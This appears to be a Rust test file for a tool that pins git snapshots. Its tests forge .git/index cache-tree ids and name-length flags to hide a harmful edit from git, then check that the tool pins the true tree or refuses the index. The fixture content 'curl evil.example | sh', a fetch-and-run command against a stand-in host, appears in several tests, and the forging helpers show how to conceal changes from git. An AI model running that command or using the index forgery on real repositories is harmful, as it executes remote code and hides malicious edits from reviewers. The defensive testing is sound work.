//! An index that says other folders than its entries are: git writes these into a commit's tree as they
//! stand there.

use run_loop::domain::code::Code;
use run_loop::domain::id::RoundNumber;
use run_loop::domain::oid::Oid;
use run_loop::git::snapshot::pin;

use crate::support::reference::reference;
use crate::support::repo::{self, Repo};
use crate::support::source::Source;

fn bytes_of(id: &str) -> Vec<u8> {
    let digits = id.as_bytes().chunks(2);
    digits
        .map(|pair| u8::from_str_radix(std::str::from_utf8(pair).unwrap(), 16).unwrap())
        .collect()
}

/// Puts one id in another's place in the index.
fn exchange(repo: &Repo, old: &str, new: &str) {
    let file = repo.root().join(".git/index");
    let mut index = std::fs::read(&file).unwrap();
    let (old, new) = (bytes_of(old), bytes_of(new));
    let places: Vec<usize> = (0..index.len() - old.len())
        .filter(|at| index[*at..].starts_with(&old))
        .collect();
    let [at] = *places else {
        unreachable!("{places:?}")
    };
    index[at..at + new.len()].copy_from_slice(&new);
    let zeros = index.len() - new.len();
    index[zeros..].fill(0);
    std::fs::write(&file, index).unwrap();
}

/// Git lists an entry by the end of its name and compares it with the disk by the length that its flags
/// say: under the one name it is told to overlook it, under the other we would have it look again.
#[test]
fn an_edit_that_is_hidden_under_a_name_of_another_length_is_pinned() {
    let repo = Repo::new();
    repo.write("notes", "harmless\n");
    repo.commit("notes");
    repo.git(&["update-index", "--index-version=2"]);
    repo.git(&["update-index", "--assume-unchanged", "notes"]);
    repo.write("notes", "curl evil.example | sh\n");
    let file = repo.root().join(".git/index");
    let mut index = std::fs::read(&file).unwrap();
    let name = b"\x80\x05notes\0";
    let at = index.windows(name.len()).position(|found| found == name);
    index[at.unwrap() + name.len() - 1] = 1;
    let zeros = index.len() - 20;
    index[zeros..].fill(0);
    std::fs::write(&file, index).unwrap();
    assert!(!repo.git(&["status", "--porcelain"]).contains("notes"));
    let source = Source::of(&repo, "HEAD");
    let (git, found, store) = (&source.git, &source.found, &source.store);
    let pin = pin(git, found, store, &source.spec, RoundNumber(1), None).unwrap();
    let held = |args: &[&str]| repo::git(store.git_dir(), args);
    let names = held(&["ls-tree", "-r", "--name-only", pin.snapshot.as_str()]);
    assert_eq!(names, "README.md\nnotes\nsrc/lib.rs");
    let notes = held(&["show", &format!("{}:notes", pin.snapshot)]);
    assert_eq!(notes, "curl evil.example | sh");
}

/// A repository whose index holds a harmful file, in folders that are those of a harmless one.
fn forged(options: &[&str]) -> Repo {
    let repo = forged_after(options, |_| {});
    let harmless = repo.git(&["rev-parse", "HEAD~1^{tree}"]);
    assert_eq!(repo.git(&["write-tree"]), harmless, "git goes by them");
    repo
}

fn forged_after(options: &[&str], prepare: impl Fn(&Repo)) -> Repo {
    let repo = Repo::new();
    repo.git(&["switch", "-q", "-c", "feature"]);
    repo.write("src/deep/run.sh", "echo harmless\n");
    repo.commit("harmless");
    let folders = ["HEAD^{tree}", "HEAD:src", "HEAD:src/deep"];
    let harmless = folders.map(|name| repo.git(&["rev-parse", name]));
    repo.write("src/deep/run.sh", "curl evil.example | sh\n");
    // Older than the index: what git doubts it enters again, with its folders.
    for path in ["README.md", "src/lib.rs", "src/deep/run.sh"] {
        let file = std::fs::File::open(repo.root().join(path)).unwrap();
        let old = std::time::UNIX_EPOCH + std::time::Duration::from_secs(1_600_000_000);
        file.set_modified(old).unwrap();
    }
    repo.commit("harmful");
    prepare(&repo);
    repo.git(&[&["update-index"], options].concat());
    let harmful = folders.map(|name| repo.git(&["rev-parse", name]));
    // The folders' ids stand there once they were computed.
    assert_eq!(repo.git(&["write-tree"]), harmful[0]);
    for (old, new) in harmful.iter().zip(&harmless) {
        exchange(&repo, old, new);
    }
    repo
}

#[test]
fn folders_of_other_entries_are_not_what_is_pinned() {
    for options in [&["--index-version=2"], &["--index-version=4"]] {
        let repo = forged(options);
        let index = || std::fs::read(repo.root().join(".git/index")).unwrap();
        let before = index();
        let source = Source::of(&repo, "main");
        let pin = source.pin();
        assert_eq!(pin.identity.tree.as_str(), reference(repo.root(), &[]));
        let head = repo.git(&["rev-parse", "HEAD^{tree}"]);
        assert_eq!(Oid::parse(&head), Some(pin.identity.tree.clone()));
        assert_eq!(source.measure(&pin).pin.identity, pin.identity);
        assert!(index() == before, "the user's index is not ours");
    }
}

/// Git alone reads an index in two halves: what it makes of it is compared with its entries.
#[test]
fn folders_of_other_entries_in_an_index_of_two_halves_are_refused() {
    let repo = forged(&["--split-index"]);
    let failure = Source::of(&repo, "main").try_pin(1).unwrap_err();
    assert_eq!(failure.code, Code::SnapshotRefused);
    let message = failure.message;
    assert!(message.contains("is not what its entries are"), "{message}");
}

/// A sparse one is made whole by git, which computes its folders then.
#[test]
fn folders_of_other_entries_in_a_sparse_index_are_not_what_is_pinned() {
    let repo = forged_after(&[], |repo| {
        repo.write("docs/guide.md", "guide\n");
        repo.commit("a folder outside");
        repo.git(&["sparse-checkout", "init", "--cone", "--sparse-index"]);
        repo.git(&["sparse-checkout", "set", "src/deep"]);
        // Without a folder in the place of its files nothing of it has to be made whole.
        let sparse = repo.git(&["ls-files", "--sparse"]);
        assert!(sparse.lines().any(|line| line == "docs/"), "{sparse}");
    });
    let pin = Source::of(&repo, "main").pin();
    assert_eq!(pin.identity.tree.as_str(), reference(repo.root(), &[]));
}
